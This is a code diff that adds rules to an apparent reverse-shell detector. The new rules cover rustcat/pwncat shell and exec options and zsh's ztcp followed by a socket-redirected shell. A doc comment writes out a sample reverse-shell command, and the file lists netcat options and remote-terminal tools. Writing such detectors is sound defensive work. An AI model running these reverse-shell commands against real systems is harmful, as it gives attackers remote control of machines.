@@ -53,6 +53,10 @@ internal static class ExecReverseShell
                     if (argument.Shown.Contains("EXEC:", StringComparison.OrdinalIgnoreCase) || argument.Shown.Contains("SYSTEM:", StringComparison.OrdinalIgnoreCase) || argument.Shown.StartsWith("SHELL", StringComparison.OrdinalIgnoreCase)) return BashFinding.Plain;
                 }
                 return FedByShell(at);
+            case "rustcat" or "rcat" or "pwncat":
+                return OptionReader.Read(at.Arguments, s_rustcat) is var given && !at.AsksForHelp && (Runs(given.Value("-s", "--shell")) || Runs(given.Value("-e", "--exec"))) ? BashFinding.Plain : null;
+            case "ztcp":
+                return ShellFollows(at) ? BashFinding.Plain : null;
             case "ttyd" or "gotty" or "tmate" or "upterm" or "sshx" or "webssh" or "wetty":
                 return at.AsksForHelp || at.HasArgument("-v") ? null : BashFinding.Plain;
             case "telnet" or "openssl":
@@ -95,6 +99,19 @@ internal static class ExecReverseShell
     }
 
     private static readonly OptionTable s_nc = new("46bCDdFhklNnrStUuvZzc:e:G:g:I:i:L:M:m:O:o:P:p:q:s:T:V:W:w:X:x:Y:", "exec= sh-exec= lua-exec= listen proxy= proxy-type= source= source-port= wait= idle-timeout= output= ssl ssl-cert= ssl-key= allow= deny= keep-open verbose udp");
+
+    private static readonly OptionTable s_rustcat = new("s:e:lp:", "shell= exec= listen port=");
+
+    /// <summary>zsh's socket has a number in <c>$REPLY</c>: <c>ztcp host 4444; zsh &lt;&amp;$REPLY &gt;&amp;$REPLY</c>.</summary>
+    private static bool ShellFollows(RuleCase at)
+    {
+        foreach (var later in at.All)
+        {
+            if (!at.Work.Step()) return false;
+            if (later.Invocation.Order > at.Invocation.Order && ShellTools.IsShell(later.Name) && later.Invocation.Redirects.Length > 0) return true;
+        }
+        return false;
+    }
 
     private static bool Netcat(RuleCase at)
     {
